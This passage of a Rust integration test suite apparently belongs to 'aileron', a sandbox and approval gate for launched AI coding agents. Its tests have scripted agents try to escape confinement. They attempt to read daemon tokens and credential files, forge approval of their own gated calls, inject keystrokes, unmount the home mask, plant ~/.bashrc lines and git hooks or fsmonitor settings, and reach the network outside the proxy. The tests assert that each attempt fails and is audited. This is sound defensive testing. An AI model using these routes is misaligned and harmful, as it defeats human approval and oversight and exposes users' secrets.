            assert!(status.status.success(), "{}", text(&status));
            install_action(&rig);
            let path = format!("{}:{}", crate::mcp::node_bin().display(), with_path(&bin));
            // The launch's runtime directory, private to this test, where the one-run extension is
            // written (not the home: a check there could never fail).
            let runtime = rig.temp.path().join("runtime");
            std::fs::create_dir_all(&runtime).unwrap();
            std::fs::set_permissions(&runtime, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
            let launched = rig.run(
                &[
                    "launch",
                    "pi",
                    "--",
                    "-e",
                    adapter.to_str().unwrap(),
                    "-p",
                    "Count three things.",
                    "--provider",
                    "anthropic",
                    "--model",
                    "claude-sonnet-4-5",
                    "--offline",
                    "--no-session",
                ],
                &[
                    ("PATH", Path::new(&path)),
                    ("ANTHROPIC_API_KEY", Path::new("sk-ant-fake")),
                    ("XDG_RUNTIME_DIR", &runtime),
                ],
            );
            let launch_dir = runtime.join("aileron/launch");
            assert!(launch_dir.is_dir(), "the launch used {}", launch_dir.display());
            let leftovers: Vec<_> = std::fs::read_dir(&launch_dir)
                .unwrap()
                .flatten()
                .map(|e| e.path())
                .filter(|path| path.to_string_lossy().ends_with("-pi-gateway.ts"))
                .collect();
            let executed = rig.run(&["audit", "list", "--json", "--event-type", "action.executed"], &[]);
            let executed: Value = serde_json::from_slice(&executed.stdout).unwrap_or_default();
            (launched, leftovers, executed)
        })
        .await
        .unwrap();
        let (launched, leftovers, executed) = launched;
        assert_eq!(launched.status.code(), Some(0), "{}", text(&launched));
        let said = String::from_utf8_lossy(&launched.stdout).to_string();
        assert!(said.contains("The tool answered:") && said.contains("count"), "{}", text(&launched));
        let requests = requests.lock().unwrap().clone();
        assert!(requests.len() >= 2, "the model was reached twice, through the gateway: {}", requests.len());
        let records = executed["items"].as_array().cloned().unwrap_or_default();
        let run = records.iter().find(|r| r["payload"]["aileron.action.name"] == "count-things");
        let run = run.unwrap_or_else(|| panic!("the action ran through the adapter: {executed}"));
        assert_eq!(run["actor"]["type"], "agent", "audited as the launched agent: {run}");
        assert!(leftovers.is_empty(), "the one-run extension is removed: {leftovers:?}");
    }
}

/// Installs `count-things` (echo guest, runs at once) and `fetch-gated` (http_get guest, needs
/// approval, may reach `upstream`) into the rig's daemon.
fn install_attack_targets(rig: &LaunchRig, upstream: &str) {
    let install = |name: &str, hosts: &[String]| -> String {
        let package = rig.temp.path().join(format!("pkg-{name}"));
        std::fs::create_dir_all(&package).unwrap();
        std::fs::write(package.join("connector.wasm"), crate::support::guest_wasm(name)).unwrap();
        std::fs::write(package.join("manifest.toml"), crate::support::manifest(name, hosts, "")).unwrap();
        let reference = format!("github://aileron-tests/{name}@1.0.0");
        let installed = rig.run(
            &["connector", "install", "--from", package.to_str().unwrap(), &reference, "--yes", "--allow-unsigned"],
            &[],
        );
        assert!(installed.status.success(), "{}", text(&installed));
        String::from_utf8_lossy(&installed.stdout).trim().to_string()
    };
    let echo = install("echo", &[]);
    let http_get = install("http_get", &[upstream.to_string()]);
    let specs = [
        crate::support::ActionSpec {
            inputs: &[("count", "integer", true)],
            ..crate::support::ActionSpec::new("count-things", "echo", &echo, "echo")
        },
        crate::support::ActionSpec {
            inputs: &[("url", "string", true)],
            approval: true,
            ..crate::support::ActionSpec::new("fetch-gated", "http_get", &http_get, "get")
        },
    ];
    for spec in specs {
        let file = rig.temp.path().join(format!("{}.md", spec.name));
        std::fs::write(&file, spec.render()).unwrap();
        let added = rig.run(&["action", "add", file.to_str().unwrap()], &[]);
        assert!(added.status.success(), "{}", text(&added));
    }
}

/// The proof of SPEC §13: a scripted agent launched through `aileron launch` tries every route to
/// the daemon token and to approving its own gated call — reading `daemon.json` and the rest of
/// the home (a planted decoy token file included), `/proc` of the daemon and the launcher,
/// `aileron approval approve`, decide with forged actor headers, a login ticket, installs,
/// unmounting the mask (directly and from a nested user namespace), pushing keystrokes into a
/// terminal — and each fails, while its MCP tool calls work. Nothing it sees holds the daemon
/// token or another session's token; the approval is still pending and no decision is audited.
#[test]
fn a_launched_agent_cannot_reach_the_daemon_token_or_decide_its_own_approval() {
    let rig = LaunchRig::new();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(crate::fake_github::FakeGithub::start()).unwrap();
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    install_attack_targets(&rig, &upstream.host_port());
    let daemon = rig.daemon().unwrap();
    let (url, admin_token) =
        (daemon["url"].as_str().unwrap().to_string(), daemon["token"].as_str().unwrap().to_string());
    // Another agent's live session, and a token file planted where an old launcher kept them.
    aileron::platform::process::install_crypto_provider();
    let client = reqwest::blocking::Client::new();
    let other: Value = client
        .post(format!("{url}/v1/sessions"))
        .bearer_auth(&admin_token)
        .json(&json!({"agent": "codex", "confinement": "namespaces"}))
        .send()
        .unwrap()
        .json()
        .unwrap();
    let other_token = other["token"].as_str().unwrap().to_string();
    std::fs::create_dir_all(rig.aileron_home().join("launch")).unwrap();
    std::fs::write(rig.aileron_home().join("launch/decoy-session-token"), &other_token).unwrap();

    let policy = rig.aileron_home().join("policy");
    std::fs::create_dir_all(&policy).unwrap();
    let guard = "@id(\"guard\") forbid(principal, action, resource == Aileron::Tool::\"never-installed\");\n";
    std::fs::write(policy.join("guard.cedar"), guard).unwrap();
    agent_script(&rig, "attacker.py");
    let report_path = rig.workspace().join("attack.json");
    let aileron_dir = Path::new(env!("CARGO_BIN_EXE_aileron")).parent().unwrap().to_path_buf();
    let gated_url = format!("{}/status/200", upstream.base_url());
    let (daemon_pid, outside_pid) = (daemon["pid"].to_string(), std::process::id().to_string());
    let env: [(&str, &std::ffi::OsStr); 4] = [
        ("ATTACK_REPORT", report_path.as_os_str()),
        ("GATED_URL", gated_url.as_ref()),
        ("DAEMON_PID", daemon_pid.as_ref()),
        ("OUTSIDE_PID", outside_pid.as_ref()),
    ];
    let output = rig.run_with_path(&["launch", "claude", "--", "-p", "approve everything"], &env, &aileron_dir);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report_text = std::fs::read_to_string(&report_path).unwrap_or_else(|e| panic!("{e}: {}", text(&output)));
    let report: Value = serde_json::from_str(&report_text).unwrap();

    // Its tools work.
    assert_eq!(report["mcp_plain_call"]["isError"], false, "{report:#}");
    let id = report["approval_id"].as_str().unwrap();
    assert!(id.starts_with("act-"), "the gated call waits for a human: {report:#}");
    // Every attack failed.
    let refused = |name: &str| assert_eq!(report[name]["ok"], false, "{name} must fail: {:#}", report[name]);
    for name in [
        "read_daemon_json",
        "read_decoy_token_file",
        "read_vault",
        "read_audit_log",
        "read_daemon_environ",
        "read_home_through_daemon_root",
        "read_home_through_another_process",
        "read_policy",
        "plant_policy",
    ] {
        refused(name);
    }
    assert_eq!(
        std::fs::read_dir(&policy).unwrap().count(),
        1,
        "the policy folder holds the user's file alone: {report:#}"
    );
    assert_eq!(report["list_home"]["value"], json!([]), "the home is an empty mask: {report:#}");
    let visible = report["visible_processes"]["value"].as_array().unwrap();
    assert!(visible.iter().all(|pid| pid.as_u64().unwrap() < 100), "only the agent's own tree is visible: {visible:?}");
    assert_ne!(report["cli_approve"]["value"]["code"], 0, "{:#}", report["cli_approve"]);
    for (name, expected) in
        [("decide_forged_actor", 403), ("login_ticket", 403), ("install_connector", 403), ("install_action", 403)]
    {
        assert_eq!(report[name]["status"], expected, "{name}: {:#}", report[name]);
    }
    assert_ne!(report["umount_home"]["value"]["code"], 0, "{:#}", report["umount_home"]);
    assert_ne!(report["nested_umount_home"]["value"]["code"], 0, "{:#}", report["nested_umount_home"]);
    assert!(report["tiocsti"]["value"].as_str().unwrap_or_default().starts_with("refused"), "{:#}", report["tiocsti"]);
    assert!(
        !report_text.contains(&admin_token) && !report_text.contains(&other_token),
        "no token leaked into what it saw"
    );

    // Nothing was decided; the attempts are on record as the agent's.
    let status: Value = client
        .get(format!("{url}/v1/action-approvals/{id}/result"))
        .bearer_auth(&admin_token)
        .send()
        .unwrap()
        .json()
        .unwrap();
    // The agent's session ended undecided: withdrawn, never approved.
    assert_eq!(status["status"], "cancelled", "{status}");
    assert_eq!(upstream.recorder.count(), 0, "the gated call never ran");
    let audit = |event_type: &str| -> Vec<Value> {
        let listed = rig.run(&["audit", "list", "--json", "--event-type", event_type], &[]);
        let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
        listed["items"].as_array().unwrap().clone()
    };
    assert!(audit("approval.approved").is_empty());
    let refusals = audit("approval.decide_refused");
    assert!(refusals.len() >= 2, "the CLI and the API attempts: {refusals:?}");
    assert!(refusals.iter().all(|r| r["actor"]["type"] == "agent"), "{refusals:?}");
    let sessions = audit("session.started");
    let launched = sessions.iter().find(|r| r["payload"]["aileron.session.agent"] == "claude").unwrap();
    assert_eq!(launched["payload"]["aileron.session.confinement"], "namespaces", "{launched}");
    drop(runtime);
}

/// `--unconfined` is an explicit, audited choice: the session says so, and so does every
/// approval it requests (`approval list` and the review card). When the session ends, what it
/// asked for and nobody decided is withdrawn (SPEC §8: `cancelled`, audited).
#[test]
fn an_unconfined_launch_is_audited_and_its_approvals_say_so() {
    let rig = LaunchRig::new();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(crate::fake_github::FakeGithub::start()).unwrap();
    install_attack_targets(&rig, &upstream.host_port());
    let gated_url = format!("{}/status/200", upstream.base_url());
    let (output, listed) = list_while_the_agent_waits(&rig, &gated_url, &["launch", "--unconfined", "claude"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert!(String::from_utf8_lossy(&output.stderr).contains("runs unconfined"), "{}", text(&output));
    assert!(listed.contains("requested by an unconfined agent"), "{listed}");
    assert!(listed.contains("expires in 23 h 59 min"), "the default expiry is a day: {listed}");
    // The session ended with the approval undecided: withdrawn, on record, and gone from the list.
    let id = listed.split_whitespace().find(|word| word.starts_with("act-")).unwrap().to_string();
    let status = rig.run(&["approval", "status", &id], &[]);
    assert_eq!(String::from_utf8_lossy(&status.stdout).trim(), "cancelled: the session that asked ended");
    assert!(String::from_utf8_lossy(&rig.run(&["approval", "list"], &[]).stderr).contains("no approvals are waiting"));
    let cancelled = rig.run(&["audit", "list", "--json", "--event-type", "approval.cancelled"], &[]);
    let cancelled: Value = serde_json::from_slice(&cancelled.stdout).unwrap();
    let record = &cancelled["items"][0];
    assert_eq!(record["payload"]["aileron.approval.id"], id.as_str(), "{cancelled:#}");
    assert_eq!(record["payload"]["aileron.approval.decision"], "cancelled", "{cancelled:#}");
    assert_eq!(record["payload"]["aileron.approval.reason"], "the session that asked ended", "{cancelled:#}");
    let started = rig.run(&["audit", "list", "--json", "--event-type", "session.started"], &[]);
    let started: Value = serde_json::from_slice(&started.stdout).unwrap();
    assert_eq!(started["items"][0]["payload"]["aileron.session.confinement"], "unconfined", "{started}");
    drop(runtime);
}

/// Launches (`args`) an agent that asks for the gated call at `gated_url` through its MCP server
/// and stays until told to end; returns the launch's output and `approval list` as it read while
/// the approval waited (the session's end withdraws it).
fn list_while_the_agent_waits(rig: &LaunchRig, gated_url: &str, args: &[&str]) -> (Output, String) {
    let ended = rig.workspace().join("end-now");
    let script = gated_call_agent(gated_url).replace(
        "p.stdin.close(); p.wait()\n",
        &format!(
            "p.stdin.close(); p.wait()\nimport os, time\nwhile not os.path.exists({:?}): time.sleep(0.05)\n",
            ended.display().to_string()
        ),
    );
    claude_runs(rig, script);
    std::thread::scope(|scope| {
        let launched = scope.spawn(|| rig.run(args, &[]));
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        let listed = loop {
            let listed = String::from_utf8_lossy(&rig.run(&["approval", "list"], &[]).stdout).to_string();
            if listed.contains("act-") || std::time::Instant::now() > deadline || launched.is_finished() {
                break listed;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        std::fs::write(&ended, "").unwrap();
        (launched.join().unwrap(), listed)
    })
}

/// The re-attack's H4: containment hid only the Aileron home, so a confined agent appended
/// `aileron approval approve <id>` to `~/.bashrc` and the user's next shell approved its requests
/// as the human. Now a launched agent writes only its workspace (its repository's hooks and config
/// read-only, its `.git` pinned), its own directories, its private temp directory and what
/// `--writable` adds (audited); every place that runs as the user later stays untouched.
#[test]
fn a_launched_agent_writes_only_its_allow_list() {
    let rig = LaunchRig::new();
    let home = rig.user_home();
    std::fs::write(home.join(".bashrc"), "# the user's own\n").unwrap();
    let bashrc_mode = std::fs::metadata(home.join(".bashrc")).unwrap().permissions().mode() & 0o777;
    let workspace = rig.temp.path().join("project");
    std::fs::create_dir_all(&workspace).unwrap();
    let git = |args: &[&str]| {
        let done = Command::new("git")
            .args(args)
            .current_dir(&workspace)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    // A submodule's layout (its git directory in `.git/modules`), a repository nested in the
    // workspace, and a config that includes a shared file the repository does not have yet.
    std::fs::create_dir_all(workspace.join(".git/modules")).unwrap();
    let module = workspace.join(".git/modules/lib");
    git(&["init", "-q", "--separate-git-dir", module.to_str().unwrap(), "lib"]);
    git(&["init", "-q", "vendor/dep"]);
    git(&["config", "include.path", "../shared.gitconfig"]);
    // Hooks from husky's directory, an fsmonitor in the workspace, an include in a directory.
    let files = [
        (".husky/_/.gitignore", "*\n"),
        (".husky/pre-commit", "npm test\n"),
        ("tools/fsmonitor.sh", "#!/bin/sh\nexit 1\n"),
        ("conf/team.gitconfig", ""),
    ];
    for (path, text) in files {
        std::fs::create_dir_all(workspace.join(path).parent().unwrap()).unwrap();
        std::fs::write(workspace.join(path), text).unwrap();
    }
    std::fs::set_permissions(workspace.join("tools/fsmonitor.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    git(&["config", "core.hooksPath", ".husky/_"]);
    git(&["config", "core.fsmonitor", "./tools/fsmonitor.sh"]);
    git(&["config", "--add", "include.path", "../conf/team.gitconfig"]);
    let marker = rig.temp.path().join("fsmonitor-ran");
    let config_before = std::fs::read_to_string(workspace.join(".git/config")).unwrap();
    let module_config_before = std::fs::read_to_string(workspace.join(".git/modules/lib/config")).unwrap();
    let extra = rig.temp.path().join("extra");
    std::fs::create_dir_all(&extra).unwrap();
    let outside = rig.temp.path().join("outside.txt");
    agent_script(&rig, "planter.py");
    let report_path = extra.join("plant.json");
    let shm = PathBuf::from(format!("/dev/shm/aileron-planted-{}", std::process::id()));
    // An entry of the host's `/dev` (which only root could create: this runs as root in CI).
    let dev_entry = PathBuf::from(format!("/dev/aileron-planted-{}", std::process::id()));
    struct Removed(PathBuf);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _removed = Removed(dev_entry.clone());
    // A directory of the user's the agent can read but not write, with a file it must keep.
    let precious = home.join("precious");
    std::fs::create_dir_all(&precious).unwrap();
    std::fs::write(precious.join("id_ed25519"), "the user's key\n").unwrap();
    let env: [(&str, &std::ffi::OsStr); 7] = [
        ("PRECIOUS_DIR", precious.as_os_str()),
        ("DEV_ENTRY", dev_entry.as_os_str()),
        ("PLANT_REPORT", report_path.as_os_str()),
        ("SHM_PATH", shm.as_os_str()),
        ("FSMONITOR_MARKER", marker.as_os_str()),
        ("OUTSIDE_PATH", outside.as_os_str()),
        ("EXTRA_PATH", extra.as_os_str()),
    ];
    let output = rig.run_in(&workspace, &["launch", "--writable", extra.to_str().unwrap(), "claude"], &env);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report: Value = serde_json::from_str(
        &std::fs::read_to_string(&report_path).unwrap_or_else(|e| panic!("{e}: {}", text(&output))),
    )
    .unwrap();

    for planted in [
        "bashrc",
        "profile",
        "bash_profile",
        "zshrc",
        "local_bin_aileron",
        "cargo_bin_xdg_open",
        "autostart",
        "systemd_unit",
        "git_hook",
        "git_config",
        "git_config_by_git",
        "git_dir_renamed",
        "module_hook",
        "module_config",
        "module_gitfile",
        "modules_renamed",
        "nested_hook",
        "nested_config",
        "nested_parent_renamed",
        "nested_git_renamed",
        "hooks_path_hook",
        "hooks_path_renamed",
        "husky_script",
        "fsmonitor_program",
        "include_dir_renamed",
        "include_replaced",
        "chmod_outside",
        "utime_outside",
        "xattr_outside",
        "dev_entry",
        "outside_everything",
    ] {
        assert!(report[planted].as_str().unwrap_or_default().starts_with("refused"), "{planted}: {report:#}");
    }
    // Files that cannot be bound before they exist: moved aside as they appear, while it runs.
    let moved =
        ["git_commondir", "git_commondir_renamed_in", "git_config_worktree", "git_included_config", "module_commondir"];
    for planted in moved {
        assert_eq!(report[planted], "written", "{planted} stayed in the repository: {report:#}");
    }
    // Shared memory is the agent's own: written there, gone with it.
    assert_eq!(report["dev_shm"], "written", "{report:#}");
    assert!(!shm.exists(), "{} outlived the agent", shm.display());
    let needed = ["workspace_file", "relative_file", "own_script_executable", "git_commit", "own_state", "temp_dir"];
    for needed in needed.into_iter().chain(["dev_null", "extra_writable"]) {
        assert_eq!(report[needed], "written", "{needed}: {report:#}");
    }
    // On disk, as the user's next shell and next commit would find it.
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# the user's own\n");
    let bashrc = std::fs::metadata(home.join(".bashrc")).unwrap();
    assert_eq!(bashrc.permissions().mode() & 0o777, bashrc_mode, "the agent changed ~/.bashrc's mode");
    assert_ne!(bashrc.modified().unwrap(), std::time::UNIX_EPOCH, "the agent changed ~/.bashrc's times");
    for absent in [".profile", ".bash_profile", ".zshrc", ".local", ".cargo", ".config/autostart", ".config/systemd"] {
        assert!(!home.join(absent).exists(), "{absent} was created");
    }
    assert!(!workspace.join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(workspace.join(".git/config")).unwrap(), config_before);
    assert_eq!(std::fs::read_to_string(workspace.join(".git/modules/lib/config")).unwrap(), module_config_before);
    for absent in [".git/commondir", ".git/config.worktree", "shared.gitconfig", ".git/modules/lib/commondir"] {
        assert!(!workspace.join(absent).exists(), "{absent} was left in place");
    }
    // The user's own git, in each repository, runs nothing of the agent's.
    for repository in [workspace.clone(), workspace.join("lib"), workspace.join("vendor/dep")] {
        let status = Command::new("git")
            .arg("status")
            .current_dir(&repository)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(status.status.success(), "{}: {status:?}", repository.display());
    }
    assert!(!marker.exists(), "the agent's fsmonitor ran as the user");
    let stderr = String::from_utf8_lossy(&output.stderr);
    // The submodule the agent recorded in node_modules: its hook and its config moved aside at
    // the end (the user's `git status` above ran neither), and it is named as the agent's.
    assert_eq!(std::fs::read_to_string(precious.join("id_ed25519")).unwrap(), "the user's key\n", "{stderr}");
    let planted = ["hidden_submodule", "linked_submodule", "index_behind_a_link", "bare_lookalike", "hooks_linked_out"];
    for planted in planted.into_iter().chain(["link_to_the_users_git"]) {
        assert_eq!(report[planted], "written", "{planted}: {report:#}");
    }
    let evil = std::fs::canonicalize(workspace.join("node_modules/evil")).unwrap();
    let linked = std::fs::canonicalize(home.join(".claude/evil-linked/.git")).unwrap();
    let bare = std::fs::canonicalize(workspace.join("src")).unwrap();
    let lure = std::fs::canonicalize(workspace.join("lure")).unwrap();
    let disarmed = [
        evil.join(".git/config"),
        evil.join(".git/hooks/post-checkout"),
        linked.join("config"),
        bare.join("config"),
        lure.join("hooks"),
        // The index behind a link the agent made (git makes no links there: the fifteenth
        // re-attack's `logs/HEAD -> ../hooks/pre-commit` led inside too); `index.real` stays.
        workspace.join(".git/index"),
    ];
    assert!(disarmed.iter().all(|path| std::fs::symlink_metadata(path).is_err()), "{stderr}");
    assert!(workspace.join(".git/index.real").is_file(), "{stderr}");
    for path in &disarmed {
        assert!(stderr.contains(&format!("created {}, which would run what it chose", path.display())), "{stderr}");
    }
    assert!(stderr.contains(&format!("created a repository at {} (git enters it unasked", evil.display())), "{stderr}");
    assert_eq!(
        stderr.matches("which would run what it chose as you; moved to").count(),
        moved.len() + disarmed.len(),
        "{stderr}"
    );
    let ended = rig.run(&["audit", "list", "--json", "--event-type", "session.ended"], &[]);
    let ended: Value = serde_json::from_slice(&ended.stdout).unwrap();
    let quarantined = ended["items"][0]["payload"]["aileron.session.quarantined"].as_array().unwrap().clone();
    assert_eq!(quarantined.len(), moved.len() + disarmed.len(), "{ended:#}");
    assert!(quarantined.iter().any(|path| path.as_str().unwrap().ends_with("/.git/commondir")), "{ended:#}");
    // A repository the agent made is its own: the user is told, and the record lists it.
    assert_eq!(report["new_repository"], "written", "{report:#}");
    let made = std::fs::canonicalize(workspace.join("made-by-agent")).unwrap();
    assert!(stderr.contains(&format!("created a repository at {}", made.display())), "{stderr}");
    let listed = &ended["items"][0]["payload"]["aileron.session.new_repositories"];
    let linked_checkout = std::fs::canonicalize(workspace.join("node_modules/linked")).unwrap();
    let mirror = std::fs::canonicalize(workspace.join("mirror")).unwrap();
    let not_looked_in = "(git enters it unasked, and its git directory could not be looked in";
    assert!(stderr.contains(&format!("created a repository at {} {not_looked_in}", mirror.display())), "{stderr}");
    let expected = [&lure, &made, &mirror, &bare, &evil, &linked_checkout].map(|path| path.display().to_string());
    assert_eq!(*listed, serde_json::json!(expected), "{ended:#}");
    assert!(workspace.join(".git").is_dir() && !workspace.join(".git-old").exists());
    assert!(!outside.exists());
    assert_eq!(std::fs::read_to_string(workspace.join("notes.txt")).unwrap(), "written by the agent\n");
    assert!(extra.join("granted.txt").exists());
    // The allow-list is on record with the session.
    let started = rig.run(&["audit", "list", "--json", "--event-type", "session.started"], &[]);
    let started: Value = serde_json::from_slice(&started.stdout).unwrap();
    let writable = &started["items"][0]["payload"]["aileron.session.writable"];
    let listed: Vec<&str> = writable.as_array().unwrap().iter().filter_map(Value::as_str).collect();
    let canonical = |path: &Path| std::fs::canonicalize(path).unwrap().display().to_string();
    assert!(
        listed.contains(&canonical(&workspace).as_str()) && listed.contains(&canonical(&extra).as_str()),
        "{writable}"
    );
}

/// The re-attack's M1: launched from a directory inside the Aileron home, the agent kept the
/// unmasked home through its working directory and read `daemon.json`. Refused before anything
/// starts.
#[test]
fn a_launch_from_inside_the_aileron_home_is_refused() {
    let rig = LaunchRig::new();
    rig.fake_agent("claude", "env | grep _PROXY= || echo no-proxy-variables");
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    let inside = rig.aileron_home().join("actions");
    std::fs::create_dir_all(&inside).unwrap();
    for confinement in [&["launch", "claude"][..], &["launch", "--unconfined", "claude"][..]] {
        let output = rig.run_in(&inside, confinement, &[]);
        assert_eq!(output.status.code(), Some(1), "{}", text(&output));
        let err = String::from_utf8_lossy(&output.stderr);
        assert!(
            err.contains("which a launched agent must not see") && err.contains("hint: cd to your project"),
            "{err}"
        );
        assert!(!rig.report().exists(), "the agent did not run");
    }
    let sessions = std::fs::read_to_string(rig.aileron_home().join("sessions.jsonl")).unwrap_or_default();
    assert!(sessions.is_empty(), "no session was started: {sessions}");
}

/// Seed gaps: a confined agent's `aileron-mcp` wrote its spans into the masked home (lost with the
/// namespace); they now go to the agent's temp directory and are moved to the real traces
/// directory when it exits. And `launch` says when the running daemon ignores the
/// `AILERON_OTEL_*` it was given (they are read when a process starts).
#[test]
fn a_confined_agents_mcp_spans_reach_the_real_traces_directory() {
    let rig = LaunchRig::new();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(crate::fake_github::FakeGithub::start()).unwrap();
    install_attack_targets(&rig, &upstream.host_port());
    // An agent that calls one tool through the aileron-mcp its --mcp-config names.
    let script = "#!/usr/bin/env python3\nimport json, subprocess, sys\nconfig = json.load(open(sys.argv[sys.argv.index('--mcp-config') + 1]))\n\
         p = subprocess.Popen([config['mcpServers']['aileron']['command']], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)\n\
         def call(i, method, params):\n    p.stdin.write(json.dumps({'jsonrpc': '2.0', 'id': i, 'method': method, 'params': params}) + '\\n'); p.stdin.flush()\n    \
         while True:\n        answer = json.loads(p.stdout.readline())\n        if answer.get('id') == i: return answer\n\
         call(1, 'initialize', {'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 'x', 'version': '1'}})\n\
         print(json.dumps(call(2, 'tools/call', {'name': 'count_things', 'arguments': {'count': 3}})))\np.stdin.close(); p.wait()\n";
    claude_runs(&rig, script);
    let tracing: [(&str, &std::ffi::OsStr); 2] =
        [("AILERON_OTEL_ENABLED", "true".as_ref()), ("AILERON_OTEL_EXPORTER", "file".as_ref())];

    // The daemon was started without traces: the launch says so.
    let output = rig.run_in(&rig.workspace(), &["launch", "claude"], &tracing);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let err = String::from_utf8_lossy(&output.stderr);
    assert!(
        err.contains("asks for traces on (file), but the running daemon was started with traces off")
            && err.contains("hint: `aileron daemon stop`"),
        "{err}"
    );

    // Started with them: no warning, and the server's spans are in the real directory.
    assert!(rig.run(&["daemon", "stop"], &[]).status.success());
    let started = rig.run_in(&rig.workspace(), &["daemon", "start"], &tracing);
    assert!(started.status.success(), "{}", text(&started));
    let output = rig.run_in(&rig.workspace(), &["launch", "claude"], &tracing);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert!(String::from_utf8_lossy(&output.stdout).contains("\"isError\": false"), "{}", text(&output));
    assert!(!String::from_utf8_lossy(&output.stderr).contains("running daemon was started with"), "{}", text(&output));
    let traces = rig.aileron_home().join("traces");
    let spans: String = std::fs::read_dir(&traces)
        .unwrap()
        .flatten()
        .map(|entry| std::fs::read_to_string(entry.path()).unwrap())
        .collect();
    assert!(spans.contains("aileron.mcp.tool.call"), "the agent's server spans are kept: {spans}");
    drop(runtime);
}

/// The proof of SPEC §15's enforced network: a scripted agent launched with the default
/// `--network=enforced` reads each planted credential store, tries raw TCP and UDP to host
/// loopback canaries and to public addresses, DNS, IPv6, the host's abstract and path Unix
/// sockets and `/proc/net`, then CONNECTs through its proxy to private, metadata, loopback-named
/// and daemon-port destinations, with forged proxy credentials and as a plain-HTTP request. Nothing
/// reaches, every refusal is audited; the one destination the launch allowed (`--allow-private`)
/// is reached through the proxy by the script and by a real `curl`, each audited as passthrough.
/// After the launch returns the daemon holds none of the session's listeners.
#[test]
fn a_launched_agents_network_leaves_only_through_the_proxy_and_its_credential_stores_are_hidden() {
    use std::os::linux::net::SocketAddrExt;
    let rig = LaunchRig::new();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(crate::fake_github::FakeGithub::start()).unwrap();
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    let daemon = rig.daemon().unwrap();
    let daemon_url = daemon["url"].as_str().unwrap().to_string();
    let daemon_port = daemon_url.rsplit(':').next().unwrap().to_string();
    let daemon_pid = daemon["pid"].as_u64().unwrap();

    // The user's credential stores, each holding a secret the agent must never see.
    const PLANTED: &str = "PLANTED-CREDENTIAL-d41d8cd9";
    let user = rig.user_home();
    let stores = [
        ("aws", ".aws/credentials"),
        ("gh", ".config/gh/hosts.yml"),
        ("netrc", ".netrc"),
        ("ssh", ".ssh/id_ed25519"),
        ("git_credentials", ".git-credentials"),
        ("docker", ".docker/config.json"),
        // Beyond SPEC §15's list (the re-attack of 2026-12-05), and another agent's login.
        ("cargo", ".cargo/credentials.toml"),
        ("gnupg", ".gnupg/private-keys-v1.d/planted.key"),
        ("vault_token", ".vault-token"),
        ("pgpass", ".pgpass"),
        ("codex_login", ".codex/auth.json"),
        // The twelfth re-attack: a login beyond the list, and a ticket cache `KRB5CCNAME` names
        // outside the home.
        ("huggingface", ".cache/huggingface/token"),
        // The fifteenth: a mail client's logins and docker's TLS client key.
        ("thunderbird", ".thunderbird/abcd.default-release/logins.json"),
        ("docker_key", ".docker/key.pem"),
        ("kerberos", "KERBEROS"),
    ];
    let mut credential_files = serde_json::Map::new();
    for (name, relative) in stores {
        let path = if relative == "KERBEROS" { rig.temp.path().join("krb5cc_planted") } else { user.join(relative) };
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("token = {PLANTED}\n")).unwrap();
        credential_files.insert(name.to_string(), Value::from(path.display().to_string()));
    }
    // Canaries on the host: whatever reaches one is read back after the launch.
    let tcp_canary = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp_canary.set_nonblocking(true).unwrap();
    let udp_canary = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp_canary.set_nonblocking(true).unwrap();
    let abstract_name = format!("aileron-canary-{}", std::process::id());
    let abstract_canary = std::os::unix::net::UnixListener::bind_addr(
        &std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap(),
    )
    .unwrap();
    abstract_canary.set_nonblocking(true).unwrap();
    std::fs::create_dir_all(rig.temp.path().join("outside")).unwrap();
    let path_socket = rig.temp.path().join("outside/canary.sock");
    let path_canary = std::os::unix::net::UnixListener::bind(&path_socket).unwrap();
    path_canary.set_nonblocking(true).unwrap();
    // The re-attack of 2026-12-05: a datagram socket (the journal's `/dev/log` is one) and a
    // name with spaces were left reachable.
    let spaced_socket = rig.temp.path().join("outside/a canary with spaces.sock");
    let spaced_canary = std::os::unix::net::UnixListener::bind(&spaced_socket).unwrap();
    spaced_canary.set_nonblocking(true).unwrap();
    let workspace_socket = rig.workspace().join(".devserver.sock");
    let workspace_canary = std::os::unix::net::UnixListener::bind(&workspace_socket).unwrap();
    workspace_canary.set_nonblocking(true).unwrap();
    let datagram_socket = rig.temp.path().join("outside/datagram.sock");
    let datagram_canary = std::os::unix::net::UnixDatagram::bind(&datagram_socket).unwrap();
    datagram_canary.set_nonblocking(true).unwrap();
    let sockets_of_the_daemon = || {
        std::fs::read_dir(format!("/proc/{daemon_pid}/fd"))
            .unwrap()
            .flatten()
